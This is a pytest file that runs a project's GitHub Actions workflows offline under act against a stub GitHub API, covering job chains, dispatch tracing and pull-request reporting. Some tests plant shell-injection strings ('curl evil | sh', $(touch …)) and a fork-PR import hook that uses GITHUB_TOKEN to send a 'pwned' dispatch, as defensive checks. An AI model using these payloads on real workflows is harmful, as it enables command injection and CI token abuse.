"""The workflows, run for real under ``act`` (offline, self-hosted mode).

Each test runs one or a few real act invocations of the workflows in ``.github/workflows``
(through the scenarios in ``tests/act/workflows`` where a caller is needed), with the
remote actions mapped to the stand-ins in ``tests/act`` and GitHub's REST API stood in
for by ``tests/github_stub.py`` on 127.0.0.1 (see ``tests/act_harness.py``). Where act is
not installed the tests skip, except in CI (``CI=true``), where they fail.
"""

from __future__ import annotations

import copy
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from act_harness import (
    EXAMPLE_ACTION,
    ActHarness,
    ActRun,
    rev_parse,
    workflow_run_event,
)
from github_stub import GitHubStub, iter_requests

from orchestration.github.pr_state import read_state, user_text

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("act_installed")]

REPO = Path(__file__).resolve().parent.parent
#: A real Azure diagram from the corpus (``diagrams/SOURCES.md``, section 1:
#: Azure-Samples/functions-quickstart-python-azd-cosmosdb, ``diagrams/architecture.drawio``).
AZURE_DIAGRAM = (
    "Azure-Samples__functions-quickstart-python-azd-cosmosdb__diagrams_architecture.drawio"
)
HOSTILE = '"; curl evil | sh; #'


@pytest.fixture
def stub(recording_stub: GitHubStub) -> GitHubStub:
    return recording_stub


@pytest.fixture
def harness(tmp_path: Path, stub: GitHubStub) -> ActHarness:
    return ActHarness(tmp_path / "act", api_url=stub.url)


def load_event(events: Path, name: str) -> dict[str, Any]:
    return json.loads((events / name).read_text(encoding="utf-8"))


def assert_ok(run: ActRun) -> None:
    assert run.returncode == 0, run.explain()


# --------------------------------------------------------------------------- job chain


def test_sequential_job_chain_passes_typed_artifacts(harness: ActHarness) -> None:
    """echo -> uppercase -> word_count as three jobs of agent-job.yml, linked by needs."""
    repo = harness.new_repo("chain")
    run = harness.run(
        repo,
        "workflow_dispatch",
        "tests/act/workflows/chain.yml",
        {"inputs": {"text": "typed jobs in a row"}},
    )
    assert_ok(run)
    assert set(run.artifact_names()) == {
        "chain-input",
        "chain-echo",
        "chain-uppercase",
        "chain-word-count",
    }
    echo = run.artifact_json("chain-echo", "echo.json")
    upper = run.artifact_json("chain-uppercase", "uppercase.json")
    count = run.artifact_json("chain-word-count", "word_count.json")
    assert upper["data"]["text"] == "TYPED JOBS IN A ROW"
    assert count["schema_id"] == "forgeflow/WordCount"
    assert (count["data"]["text"], count["data"]["words"]) == ("TYPED JOBS IN A ROW", 5)
    # One correlation id down the chain: each job took it from its input artifact.
    assert echo["correlation_id"] == upper["correlation_id"] == count["correlation_id"]


# --------------------------------------------------------------------------- fan-out


def test_fan_out_isolates_a_failing_leg_and_combines_the_rest(harness: ActHarness) -> None:
    """Four matrix legs, one of them a third-party agent that fails; combine merges three.

    The failing agent comes from a package installed through the action's
    ``extra-packages`` (a wheel in a local wheelhouse) and is found by its entry point.
    """
    repo = harness.new_repo("fan-out")
    agents = ["echo", "uppercase", "word_count", "always_fails"]
    run = harness.run(
        repo,
        "workflow_dispatch",
        "tests/act/workflows/fan-out.yml",
        {
            "inputs": {
                "text": "one two three",
                "agents": json.dumps(agents),
                "extra-packages": "forgeflow-selftest-agents==0.1.0",
            }
        },
    )
    # As on GitHub, a failed leg makes the run fail; the combine job still runs.
    assert run.returncode != 0, run.explain()
    assert {f"legs-{a}" for a in agents} | {"legs-combined"} <= set(run.artifact_names())
    failed_leg = run.artifact_json("legs-always_fails", "always_fails.json")
    assert failed_leg["status"] == "failed"
    assert "failed on purpose" in failed_leg["error"]
    combined = run.artifact_json("legs-combined", "combined.json")["data"]
    assert sorted(combined["results"]) == ["echo", "uppercase", "word_count"]
    assert combined["results"]["uppercase"]["text"] == "ONE TWO THREE"
    assert [f["leg"] for f in combined["failures"]] == ["always_fails"]
    assert "::error title=fan-out leg always_fails failed::" in run.log


def test_fan_out_with_its_combine_job_is_one_trace(harness: ActHarness) -> None:
    """With tracing on, the plan's fan_out span is the parent of every matrix leg's agent
    run (through the matrix) and of the combine job's merge (through the plan's output),
    all received over OTLP/HTTP as one trace."""
    pytest.importorskip("opentelemetry.sdk", reason="tracing needs forgeflow[otel]")
    pytest.importorskip("opentelemetry.proto", reason="the receiver needs opentelemetry-proto")
    from otlp_receiver import OtlpReceiver

    repo = harness.new_repo("fan-out-traced")
    with OtlpReceiver() as receiver:
        harness.extra_vars.update(
            {"OTEL_TRACES_EXPORTER": "otlp", "OTEL_EXPORTER_OTLP_ENDPOINT": receiver.endpoint}
        )
        run = harness.run(
            repo,
            "workflow_dispatch",
            "tests/act/workflows/fan-out.yml",
            {"inputs": {"text": "traced legs", "agents": json.dumps(["echo", "uppercase"])}},
        )
        spans = list(receiver.spans)
    assert_ok(run)
    (plan,) = [s for s in spans if s.name == "fan_out"]
    assert plan.parent_span_id == "" and plan.service == "forgeflow-fan-out"
    assert plan.attributes["forgeflow.legs"] == 2
    assert {s.trace_id for s in spans} == {plan.trace_id}
    legs = sorted((s for s in spans if s.name.startswith("invoke_agent ")), key=lambda s: s.name)
    assert [s.name for s in legs] == ["invoke_agent echo", "invoke_agent uppercase"]
    assert {s.parent_span_id for s in legs} == {plan.span_id}
    (merge,) = [s for s in spans if s.name == "combine_results"]
    assert merge.parent_span_id == plan.span_id and merge.attributes["forgeflow.legs"] == 2
    assert merge.start_ns >= max(s.end_ns for s in legs)
    for leg in ("echo", "uppercase"):
        artifact = run.artifact_json(f"legs-{leg}", f"{leg}.json")
        span_id = next(s.span_id for s in legs if s.name == f"invoke_agent {leg}")
        assert artifact["traceparent"].split("-")[1:3] == [plan.trace_id, span_id]


# --------------------------------------------------------------------------- dispatch chain


def dispatches_in_log(record: Path) -> list[dict[str, Any]]:
    """``repository_dispatch`` requests the stand-in accepted, from its request log."""
    return [
        r
        for r in iter_requests(record)
        if r["method"] == "POST" and r["path"].endswith("/dispatches") and r["status"] == 204
    ]


def drive_dispatch_chain(
    harness: ActHarness,
    tmp_path: Path,
    corpus_events: Path,
    env_extra: dict[str, str] | None = None,
) -> tuple[list[ActRun], list[dict[str, Any]], dict[str, Any]]:
    """Seed the echo -> uppercase -> word_count chain, then feed each recorded dispatch
    back to act as the next event until the chain ends.

    Returns the act runs, the dispatch requests the stand-in accepted, and the seed.
    The events are the real ``repository_dispatch`` payload from the corpus
    (``events/SOURCES.md``: octokit/webhooks ``repository_dispatch/payload.json``) with
    ``action`` and ``client_payload`` set from each dispatch, as GitHub would deliver them.
    """
    template = load_event(corpus_events, "repository_dispatch.payload.json")
    first_input = tmp_path / "first.json"
    first_input.write_text(json.dumps({"input": {"text": "events all the way"}}))
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "OTEL_"))}
    env.update(env_extra or {})
    seed = json.loads(
        subprocess.run(
            [
                sys.executable,
                "-m",
                "orchestration",
                "dispatch",
                "--dry-run",
                "--event-type",
                "forgeflow-echo",
                "--correlation-id",
                "chain-42",
                "--payload-file",
                str(first_input),
            ],
            check=True,
            capture_output=True,
            text=True,
            env=env,
        ).stdout
    )
    repo = harness.new_repo("dispatch")
    record = tmp_path / "requests.jsonl"
    event = dict(template, action=seed["event_type"], client_payload=seed["client_payload"])
    runs: list[ActRun] = []
    while True:
        run = harness.run(
            repo, "repository_dispatch", "tests/act/workflows/dispatch-chain.yml", event
        )
        assert_ok(run)
        runs.append(run)
        sent = dispatches_in_log(record)
        if len(sent) < len(runs):
            break  # the last hop dispatched nothing: the chain ended
        assert len(runs) < 5, "the chain did not end"
        body = sent[-1]["body"]
        event = dict(template, action=body["event_type"], client_payload=body["client_payload"])
    return runs, dispatches_in_log(record), seed


def test_repository_dispatch_chain_of_three_hops(
    harness: ActHarness, tmp_path: Path, corpus_events: Path
) -> None:
    """Each recorded dispatch is fed back to act as the next event, until the chain ends."""
    runs, dispatches, seed = drive_dispatch_chain(harness, tmp_path, corpus_events)

    assert len(runs) == 3
    assert "traceparent" not in seed["client_payload"]  # tracing is off: nothing added
    payloads = [d["body"]["client_payload"] for d in dispatches]
    assert [d["body"]["event_type"] for d in dispatches] == [
        "forgeflow-uppercase",
        "forgeflow-word-count",
    ]
    assert [p["hop"] for p in payloads] == [2, 3]
    assert [p["artifact_run_id"] for p in payloads] == [str(r.run_id) for r in runs[:2]]
    assert {p["correlation_id"] for p in payloads} == {"chain-42"}
    assert all("traceparent" not in p for p in payloads)
    outputs = [r.artifact_json("forgeflow-chain-output", "output.json") for r in runs]
    assert [o["agent"] for o in outputs] == ["echo", "uppercase", "word_count"]
    assert {o["correlation_id"] for o in outputs} == {"chain-42"}
    assert all("traceparent" not in o for o in outputs)
    assert (outputs[-1]["data"]["text"], outputs[-1]["data"]["words"]) == ("EVENTS ALL THE WAY", 4)


def test_dispatch_chain_of_three_hops_is_one_trace(
    harness: ActHarness, tmp_path: Path, corpus_events: Path
) -> None:
    """With tracing on, the seed, every hop's agent and every dispatch are spans of one
    trace, sent to a real OTLP/HTTP receiver and decoded with opentelemetry-proto; each
    hop's agent span descends from the previous hop's, through the dispatch between."""
    pytest.importorskip("opentelemetry.sdk", reason="tracing needs forgeflow[otel]")
    pytest.importorskip("opentelemetry.proto", reason="the receiver needs opentelemetry-proto")
    from otlp_receiver import OtlpReceiver

    with OtlpReceiver() as receiver:
        otel = {"OTEL_TRACES_EXPORTER": "otlp", "OTEL_EXPORTER_OTLP_ENDPOINT": receiver.endpoint}
        harness.extra_vars.update(otel)
        runs, dispatches, seed = drive_dispatch_chain(
            harness, tmp_path, corpus_events, {**otel, "OTEL_SERVICE_NAME": "forgeflow-seed"}
        )
        spans = list(receiver.spans)

    assert len(runs) == 3
    payloads = [seed["client_payload"], *(d["body"]["client_payload"] for d in dispatches)]
    traceparents = [p["traceparent"] for p in payloads]
    trace_id = traceparents[0].split("-")[1]
    assert {tp.split("-")[1] for tp in traceparents} == {trace_id}
    assert {s.trace_id for s in spans} == {trace_id}, sorted({s.name for s in spans})
    by_id = {s.span_id: s for s in spans}

    def ancestors(span_id: str) -> list[str]:
        chain = []
        while span_id in by_id:
            chain.append(by_id[span_id].name)
            span_id = by_id[span_id].parent_span_id
        return chain

    agents = [s for s in spans if s.name.startswith("invoke_agent ")]
    assert sorted(s.name for s in agents) == [
        "invoke_agent echo",
        "invoke_agent uppercase",
        "invoke_agent word_count",
    ]
    last = next(s for s in agents if s.name == "invoke_agent word_count")
    # the hops in order, newest first: each hop's agent is the child of the dispatch
    # that started its run, which is the child of the previous hop's agent
    assert ancestors(last.span_id) == [
        "invoke_agent word_count",
        "dispatch forgeflow-word-count",
        "invoke_agent uppercase",
        "dispatch forgeflow-uppercase",
        "invoke_agent echo",
        "dispatch forgeflow-echo",
    ]
    root = by_id[traceparents[0].split("-")[2]]
    assert root.parent_span_id == "" and root.service == "forgeflow-seed"
    assert {s.service for s in agents} == {"forgeflow-chain"}
    ordered = sorted(agents, key=lambda s: s.start_ns)
    assert [s.name for s in ordered] == [
        "invoke_agent echo",
        "invoke_agent uppercase",
        "invoke_agent word_count",
    ]
    assert [s.attributes["forgeflow.correlation_id"] for s in ordered] == ["chain-42"] * 3
    assert [p["hop"] for p in payloads] == [1, 2, 3]
    # each artifact records the span of the agent run that wrote it
    outputs = [r.artifact_json("forgeflow-chain-output", "output.json") for r in runs]
    assert [o["traceparent"].split("-")[2] for o in outputs] == [s.span_id for s in ordered]


# --------------------------------------------------------------------------- pull requests


def pr_event(payload: dict[str, Any], repo: Path, **changes: Any) -> dict[str, Any]:
    """``payload`` with its base commit set to the snapshot's base, as on GitHub."""
    event = copy.deepcopy(payload)
    event["pull_request"]["base"]["sha"] = rev_parse(repo, "HEAD~1")
    for key, value in changes.items():
        section, _, field = key.partition("__")
        if field:
            event["pull_request"][section][field] = value
        else:
            event["pull_request"][key] = value
    return event


def pr_body(stub: GitHubStub, payload: dict[str, Any]) -> str | None:
    pr = stub.pull_request(payload["repository"]["full_name"], payload["number"])
    return pr["body"]


ANALYSIS = ".github/workflows/synthforge-pr.yml"
WRITER = ".github/workflows/synthforge-pr-report.yml"


def run_pull_request(
    harness: ActHarness,
    stub: GitHubStub,
    corpus_events: Path,
    head: Path,
    default: Path,
    event: dict[str, Any],
    *,
    fork: bool = False,
) -> tuple[ActRun, ActRun, list[dict[str, Any]], list[dict[str, Any]]]:
    """The analysis (on the pull request's head) then the writer (on the default branch),
    as GitHub runs them; with the requests the stand-in answered during each.

    The stand-in's contents API serves the head's diagrams at the head commit, as GitHub
    does (the review reads a diagram's bytes from there, never from an artifact).
    """
    tracked = subprocess.run(
        ["git", "ls-files", "-z", "--", "*.drawio"], cwd=head, check=True, capture_output=True
    ).stdout.decode()
    for path in filter(None, tracked.split("\0")):
        stub.set_file(
            event["repository"]["full_name"],
            event["pull_request"]["head"]["sha"],
            path,
            (head / path).read_bytes(),
        )
    before = len(stub.requests())
    analysis = harness.run(head, "pull_request", ANALYSIS, event)
    during_analysis = stub.requests()[before:]
    before = len(stub.requests())
    writer_event = workflow_run_event(corpus_events, event, analysis, fork=fork)
    writer = harness.run(default, "workflow_run", WRITER, writer_event)
    return analysis, writer, during_analysis, stub.requests()[before:]


def calls(requests: list[dict[str, Any]]) -> list[str]:
    return [r["operation"] for r in requests]


#: What the writer sends to GitHub for the report: read, write and re-read the body, list
#: the comments, then create (first run) or update the sticky comment (docs/workflows.md,
#: "Cost"); the review's requests follow.
WRITER_CALLS = ["pulls/get", "pulls/update", "pulls/get", "issues/list-comments"]
#: Every request the writer may make: the report's, then the review's (read the diagram
#: at the head commit, the review state in the body, its own sticky comment).
WRITER_MAY = {*WRITER_CALLS, "issues/create-comment", "issues/update-comment", "repos/get-content"}


def writer_calls(written: list[dict[str, Any]]) -> list[str]:
    """The report's requests (checked exactly), after checking that the rest are the
    review's kind only."""
    ops = calls(written)
    assert set(ops) <= WRITER_MAY, ops
    return ops[:5]


def test_pr_workflow_writes_state_and_one_sticky_comment(
    harness: ActHarness, stub: GitHubStub, corpus_events: Path, corpus_diagrams: Path
) -> None:
    """Opened, then synchronized: the real payloads of ``events/SOURCES.md``
    (octokit/webhooks ``pull_request/opened.payload.json`` and ``synchronize.payload.json``)
    and a real diagram (``diagrams/SOURCES.md`` section 1) added by the pull request.
    """
    opened = load_event(corpus_events, "pull_request.opened.payload.json")
    original_body = opened["pull_request"]["body"]
    repo_name, number = stub.seed_pull_request(opened)
    diagram = (corpus_diagrams / AZURE_DIAGRAM).read_text(encoding="utf-8")
    default = harness.new_repo("default")
    repo = harness.new_repo("pr", extra_files={"docs/architecture.drawio": diagram})

    analysis, writer, read_only, written = run_pull_request(
        harness, stub, corpus_events, repo, default, pr_event(opened, repo)
    )
    assert_ok(analysis)
    assert_ok(writer)
    assert read_only == [], "the analysis run called GitHub's API"
    assert writer_calls(written) == [*WRITER_CALLS, "issues/create-comment"]
    body = pr_body(stub, opened)
    assert user_text(body) == original_body
    assert body is not None and body.startswith(original_body)
    state = read_state(body)["synthforge"]
    assert list(state["diagrams"]) == ["docs/architecture.drawio"]
    entry = state["diagrams"]["docs/architecture.drawio"]
    assert entry["status"] == "succeeded" and entry["resources"] > 0
    assert state["head_sha"] == opened["pull_request"]["head"]["sha"]
    output = analysis.artifact_file(entry["artifact"], entry["file"]).read_bytes()
    assert entry["output_sha256"] == hashlib.sha256(output).hexdigest()
    comments = stub.comments(repo_name, number)
    assert len(comments) == 1
    assert "docs/architecture.drawio" in comments[0]["body"]
    saved = re.search(r"Cache saved with key: (forgeflow-results-synthforge-\w+)", analysis.log)
    assert saved, analysis.explain()
    first_cache = saved.group(1)

    # synchronize: the real payload's base commit is not in this clone, so every diagram
    # of the repository is analysed; the same comment is updated, never a second one.
    synchronize = load_event(corpus_events, "pull_request.synchronize.payload.json")
    analysis, writer, read_only, written = run_pull_request(
        harness, stub, corpus_events, repo, default, synchronize
    )
    assert_ok(analysis)
    assert_ok(writer)
    assert read_only == []
    assert writer_calls(written) == [*WRITER_CALLS, "issues/update-comment"]
    tracked = subprocess.run(
        ["git", "ls-files", "--", "*.drawio"], cwd=repo, check=True, capture_output=True, text=True
    ).stdout.split()
    body = pr_body(stub, opened)
    assert user_text(body) == original_body
    assert sorted(read_state(body)["synthforge"]["diagrams"]) == sorted(tracked)
    assert "examples/diagrams/webapp.drawio" in tracked
    # All of them in one analysis job: the matrix has one group.
    assert analysis.artifact_names() == ["synthforge-group-1", "synthforge-pr"]
    # The first run's result cache (actions/cache) was restored, and saved again under a
    # new name, since it now holds more (the second diagram's results).
    restored = re.search(
        r"Cache restored from key: (forgeflow-results-synthforge-\w+)", analysis.log
    )
    assert restored, analysis.explain()
    assert restored.group(1) == first_cache, (restored.group(1), first_cache)
    assert re.search(r"Cache saved with key: forgeflow-results-synthforge-\w+", analysis.log)
    comments_after = stub.comments(repo_name, number)
    assert [c["id"] for c in comments_after] == [comments[0]["id"]]
    assert "examples/diagrams/webapp.drawio" in comments_after[0]["body"]


def test_fork_pull_request_is_reported_by_the_default_branchs_code(
    harness: ActHarness, stub: GitHubStub, corpus_events: Path, corpus_diagrams: Path
) -> None:
    """A pull request from a fork (the real ``pull_request/opened`` payload with
    ``head.repo.fork: true``) whose head also changes Forgeflow's own code: any process
    importing its ``orchestration`` with a token at hand sends a ``pwned`` dispatch.

    The analysis runs the head's code with no token and calls no API; the writer, fed
    the corpus's ``workflow_run`` (completed) payload with ``pull_requests: []`` as GitHub
    sends it for forks, runs the default branch's code: the stand-in's recorded requests
    are exactly the documented writes, and no dispatch.
    """
    opened = load_event(corpus_events, "pull_request.opened.payload.json")
    opened["pull_request"]["head"]["repo"]["fork"] = True
    opened["pull_request"]["head"]["repo"]["full_name"] = "mallory/Hello-World"
    repo_name, number = stub.seed_pull_request(opened)
    hostile = (REPO / "orchestration/__init__.py").read_text(encoding="utf-8") + (
        "\n\nimport json as _j, os as _o, urllib.request as _u\n"
        "if _o.environ.get('GITHUB_TOKEN'):\n"
        "    _u.urlopen(_u.Request(\n"
        "        _o.environ['GITHUB_API_URL'] + '/repos/' + _o.environ['GITHUB_REPOSITORY']\n"
        "        + '/dispatches', data=_j.dumps({'event_type': 'pwned'}).encode(),\n"
        "        headers={'Authorization': 'token ' + _o.environ['GITHUB_TOKEN'],\n"
        "                 'Content-Type': 'application/json'}, method='POST'))\n"
    )
    default = harness.new_repo("default")
    head = harness.new_repo(
        "fork-head",
        extra_files={
            "docs/architecture.drawio": (corpus_diagrams / AZURE_DIAGRAM).read_text("utf-8"),
            "orchestration/__init__.py": hostile,
        },
    )
    analysis, writer, read_only, written = run_pull_request(
        harness, stub, corpus_events, head, default, pr_event(opened, head), fork=True
    )
    assert_ok(analysis)
    assert_ok(writer)
    assert read_only == [], "the analysis run called GitHub's API"
    assert writer_calls(written) == [*WRITER_CALLS, "issues/create-comment"]
    assert stub.dispatches() == [], "the writer ran the pull request's code"
    # The pull request written to came from the artifact (the event names none for a
    # fork) and was checked against the event's head commit.
    assert written[0]["path"].endswith(f"/pulls/{number}")
    body = pr_body(stub, opened)
    assert user_text(body) == opened["pull_request"]["body"]
    state = read_state(body)["synthforge"]
    assert state["diagrams"]["docs/architecture.drawio"]["status"] == "succeeded"
    (comment,) = stub.comments(repo_name, number)
    assert comment["body"].startswith("<!-- forgeflow:sticky key=synthforge-report -->")
    assert "docs/architecture.drawio" in comment["body"]
    assert comment["user"]["login"] == "github-actions[bot]"


def test_a_failed_plan_gives_one_annotation_and_no_report(
    harness: ActHarness, stub: GitHubStub, corpus_events: Path
) -> None:
    """A pull request whose base commit is not a commit id (``pull_request/opened``,
    ``events/SOURCES.md``, with a hostile ``base.sha``): the plan job fails with one error
    annotation; nothing runs after it and nothing crashes; the writer finds nothing to
    report and writes nothing."""
    payload = load_event(corpus_events, "pull_request.opened.payload.json")
    stub.seed_pull_request(payload)
    default = harness.new_repo("default")
    repo = harness.new_repo(
        "pr-bad-base",
        extra_files={"docs/a.drawio": (REPO / "examples/diagrams/webapp.drawio").read_text()},
    )
    event = pr_event(payload, repo)
    event["pull_request"]["base"]["sha"] = HOSTILE
    analysis, writer, read_only, written = run_pull_request(
        harness, stub, corpus_events, repo, default, event
    )
    assert analysis.returncode != 0, analysis.explain()
    errors = [line for line in analysis.log.splitlines() if "::error" in line]
    assert len(errors) == 1, errors
    assert "is not a commit id" in errors[0]
    assert "Traceback" not in analysis.log + writer.log
    assert analysis.artifact_names() == []
    assert_ok(writer)
    assert "nothing to report" in writer.log
    assert read_only == written == []


def test_a_diagram_that_fails_is_annotated_on_its_file(
    harness: ActHarness, stub: GitHubStub, corpus_events: Path
) -> None:
    """A pull request adding a good diagram and a broken one (not XML): one
    ``::error file=…`` annotation on the broken diagram, the good one still analysed, and
    the report says which failed."""
    payload = load_event(corpus_events, "pull_request.opened.payload.json")
    repo_name, number = stub.seed_pull_request(payload)
    default = harness.new_repo("default")
    repo = harness.new_repo(
        "pr-broken",
        extra_files={
            "docs/good.drawio": (REPO / "examples/diagrams/webapp.drawio").read_text(),
            "docs/broken.drawio": "<mxfile><diagram>not a graph",
        },
    )
    analysis, writer, read_only, written = run_pull_request(
        harness, stub, corpus_events, repo, default, pr_event(payload, repo)
    )
    assert analysis.returncode != 0, analysis.explain()
    errors = [line for line in analysis.log.splitlines() if "::error" in line]
    assert len(errors) == 1, errors
    assert "::error file=docs/broken.drawio," in errors[0]
    assert "Traceback" not in analysis.log + writer.log
    assert writer.returncode != 0, writer.explain()  # the report says an analysis failed
    state = read_state(pr_body(stub, payload))["synthforge"]["diagrams"]
    assert state["docs/good.drawio"]["status"] == "succeeded"
    assert state["docs/broken.drawio"]["status"] != "succeeded"
    (comment,) = stub.comments(repo_name, number)
    assert "1 failed" in comment["body"]


def test_pr_workflow_on_a_pull_request_without_body(
    harness: ActHarness, stub: GitHubStub, corpus_events: Path
) -> None:
    """The corpus payload whose body is null (``events/SOURCES.md``:
    ``pull_request/opened.with-null-body.json``): the body ends up holding only the state.
    """
    payload = load_event(corpus_events, "pull_request.opened.with-null-body.json")
    assert payload["pull_request"]["body"] is None
    stub.seed_pull_request(payload)
    default = harness.new_repo("default")
    repo = harness.new_repo(
        "pr-null",
        extra_files={
            "diagrams/copy.drawio": (REPO / "examples/diagrams/webapp.drawio").read_text()
        },
    )
    analysis, writer, _, _ = run_pull_request(
        harness, stub, corpus_events, repo, default, pr_event(payload, repo)
    )
    assert_ok(analysis)
    assert_ok(writer)
    body = pr_body(stub, payload)
    assert user_text(body) == ""
    assert list(read_state(body)["synthforge"]["diagrams"]) == ["diagrams/copy.drawio"]


def test_hostile_title_branch_body_and_file_name_change_nothing_but_text(
    harness: ActHarness, stub: GitHubStub, tmp_path: Path, corpus_events: Path
) -> None:
    """Shell and marker injection attempts in everything a pull request author controls.

    Base payload: ``pull_request.opened.payload.json`` (``events/SOURCES.md``). Were any
    of these strings run by a shell, the canary file would exist.
    """
    canary = tmp_path / "canary"
    payload = load_event(corpus_events, "pull_request.opened.payload.json")
    title = f"{HOSTILE} $(touch {canary}) `touch {canary}`"
    branch = f'evil";curl${{IFS}}evil|sh;#$(touch${{IFS}}{canary})'
    body = (
        f"Please review. {HOSTILE}\n"
        "<!-- forgeflow:state key=synthforge enc=b64z -->\n"
        "<!-- not base64 at all --> -->\n"
        "<!-- /forgeflow:state key=synthforge -->\n"
        f"--> <!-- trailing $(touch {canary})"
    )
    stub.seed_pull_request(payload, body=body, title=title)
    name = f'docs/"; curl evil | sh; #$(touch {canary.name}).drawio'
    default = harness.new_repo("default")
    repo = harness.new_repo(
        "pr-hostile", extra_files={name: (REPO / "examples/diagrams/webapp.drawio").read_text()}
    )
    event = pr_event(payload, repo, title=title, body=body, head__ref=branch)
    analysis, writer, _, _ = run_pull_request(harness, stub, corpus_events, repo, default, event)
    assert_ok(analysis)
    assert_ok(writer)
    after = pr_body(stub, payload)
    assert user_text(after) == body
    assert after is not None and after.startswith(body)
    state = read_state(after)
    # Only Forgeflow's own keys: the report's, and the review's (with nothing to review);
    # the markers planted in the body added none.
    assert set(state) <= {"synthforge", "synthforge-review"}, list(state)
    assert not (state.get("synthforge-review") or {}).get("diagrams")
    assert list(state["synthforge"]["diagrams"]) == [name]
    assert state["synthforge"]["diagrams"][name]["status"] == "succeeded"
    comments = stub.comments(payload["repository"]["full_name"], payload["number"])
    assert len(comments) == 1
    assert "curl" in comments[0]["body"]  # shown as text
    assert not list(tmp_path.rglob(canary.name)), "a hostile string was run by a shell"


# --------------------------------------------------------------------------- other repositories


def git_repo(folder: Path, remote: str) -> Path:
    """Commit everything in ``folder`` as a new repository whose ``origin`` is ``remote``."""
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    for cmd in (
        ["init", "-q", "-b", "main"],
        ["add", "-A"],
        ["commit", "-q", "-m", "c"],
        ["remote", "add", "origin", f"https://github.com/{remote}.git"],
    ):
        subprocess.run([*git, *cmd], cwd=folder, check=True)
    return folder


def publish_forgeflow(harness: ActHarness) -> Path:
    """A snapshot of this repository published as ``OWNER/forgeflow@SHA`` (the pinned form)."""
    return harness.new_repo("forgeflow", remote=EXAMPLE_ACTION[0], ref=EXAMPLE_ACTION[1])


def test_another_repository_with_its_own_agents_package_calls_the_reusable_workflows(
    harness: ActHarness, tmp_path: Path, corpus_diagrams: Path
) -> None:
    """A consumer repository (``tests/act/consumer``: its own ``agents`` and
    ``orchestration`` packages, which leave a canary when imported) calls
    ``pipeline-job.yml``, ``agent-job.yml`` and ``fan-out.yml`` by their remote form
    (``tests/act/workflows/consumer.yml``) with their defaults: the pipeline file comes
    from Forgeflow's own copy, the diagram (``diagrams/SOURCES.md`` section 1) and the
    text from the consumer's checkout.
    """
    publish_forgeflow(harness)
    consumer = tmp_path / "consumer"
    shutil.copytree(REPO / "tests/act/consumer", consumer)
    (consumer / ".github/workflows").mkdir(parents=True)
    shutil.copy(REPO / "tests/act/workflows/consumer.yml", consumer / ".github/workflows")
    (consumer / "docs").mkdir()
    (consumer / "docs/architecture.drawio").write_text(
        (corpus_diagrams / AZURE_DIAGRAM).read_text(encoding="utf-8")
    )
    git_repo(consumer, "octo-org/consumer")
    # The consumer's packages do shadow Forgeflow for a Python started in its workspace.
    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTHON")}
    shadowed = subprocess.run(
        [sys.executable, "-c", "import agents"], cwd=consumer, env=env, capture_output=True
    )
    assert b"the consumer's own agents package was imported" in shadowed.stderr
    (consumer / "canary-agents").unlink()

    harness.repository = "octo-org/consumer"
    run = harness.run(consumer, "workflow_dispatch", ".github/workflows/consumer.yml", {})
    assert_ok(run)
    assert not sorted(tmp_path.rglob("canary-*")), "a step imported the consumer's packages"
    assert set(run.artifact_names()) == {
        "consumer-pipeline",
        "consumer-vision",
        "fan-out-word_count",
        "fan-out-uppercase",
        "fan-out-combined",
    }
    output = run.artifact_json("consumer-pipeline", "output.json")
    assert (output["agent"], output["status"]) == ("combine", "succeeded")
    assert output["data"]["architecture"]["resources"], "the pipeline found no resources"
    vision = run.artifact_json("consumer-vision", "vision.json")
    assert (vision["agent"], vision["status"]) == ("vision", "succeeded")
    assert vision["data"]["icons"], "vision found no icons"
    combined = run.artifact_json("fan-out-combined", "combined.json")["data"]
    assert combined["results"]["uppercase"]["text"] == "A CONSUMER SAYS HELLO"
    assert combined["results"]["word_count"]["words"] == 4
    assert combined["failures"] == []


def test_readme_example_runs_from_another_repository(
    harness: ActHarness, tmp_path: Path, corpus_diagrams: Path
) -> None:
    """``examples/use-from-another-repo.yml`` in a repository of its own, with
    ``OWNER/forgeflow@SHA`` mapped to this repository; the diagram is
    ``diagrams/SOURCES.md`` section 1.
    """
    publish_forgeflow(harness)
    consumer = tmp_path / "consumer"
    (consumer / ".github/workflows").mkdir(parents=True)
    (consumer / "docs").mkdir()
    (consumer / ".github/workflows/forgeflow.yml").write_text(
        (REPO / "examples/use-from-another-repo.yml").read_text(encoding="utf-8")
    )
    (consumer / "docs/architecture.drawio").write_text(
        (corpus_diagrams / AZURE_DIAGRAM).read_text(encoding="utf-8")
    )
    git_repo(consumer, "octo-org/consumer")
    assert (
        f"{EXAMPLE_ACTION[0]}@{EXAMPLE_ACTION[1]}"
        in (consumer / ".github/workflows/forgeflow.yml").read_text()
    )
    harness.repository = "octo-org/consumer"
    run = harness.run(
        consumer,
        "workflow_dispatch",
        ".github/workflows/forgeflow.yml",
        {"inputs": {}},
    )
    assert_ok(run)
    assert run.artifact_names() == ["forgeflow-analysis"]
    vision = run.artifact_json("forgeflow-analysis", "vision.json")
    filtered = run.artifact_json("forgeflow-analysis", "filter.json")
    assert (vision["agent"], vision["status"]) == ("vision", "succeeded")
    assert (filtered["agent"], filtered["status"]) == ("filter", "succeeded")
    assert filtered["data"]["resources"], "the filter agent found no resources"
    assert "filter succeeded with confidence" in run.log
